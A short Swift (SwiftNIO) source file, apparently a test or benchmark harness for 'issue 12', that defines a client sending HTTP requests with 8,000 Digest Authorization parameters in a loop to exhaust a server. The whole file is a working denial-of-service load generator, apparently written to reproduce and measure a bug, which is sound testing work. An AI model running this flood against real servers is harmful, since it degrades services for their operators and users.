import Foundation
import NIOCore
import NIOPosix

/// A client that sends one request with 8,000 auth parameters per connection and waits for the
/// server to answer and close: the hostile load of issue 12.
enum HostileClient {
    /// The request: `Authorization: Digest p1=v, …, p8000=v` (about 70 KB).
    static func request(host: String) -> String {
        let parameters = (1...8_000).map { "p\($0)=v" }.joined(separator: ", ")
        return "GET / HTTP/1.1\r\nHost: \(host)\r\nAuthorization: Digest \(parameters)\r\n\r\n"
    }

    /// Sends the request on a new connection; the seconds from its first byte to the server's close.
    static func once(host: String, port: Int, request: String) async throws -> Double {
        let channel = try await ClientBootstrap(group: MultiThreadedEventLoopGroup.singleton)
            .channelOption(.socketOption(.tcp_nodelay), value: 1)
            .connect(host: host, port: port).get()
        let start = ContinuousClock.now
        try await channel.writeAndFlush(ByteBuffer(string: request))
        try await channel.closeFuture.get()
        return (ContinuousClock.now - start).seconds
    }

    /// Attacks for `limit` seconds; returns how many requests were sent.
    static func attack(host: String, port: Int, limit: Double) async -> Int {
        let request = request(host: "\(host):\(port)")
        let deadline = ContinuousClock.now + .milliseconds(Int(limit * 1000))
        var count = 0
        while ContinuousClock.now < deadline {
            if (try? await once(host: host, port: port, request: request)) != nil { count += 1 }
        }
        return count
    }
}
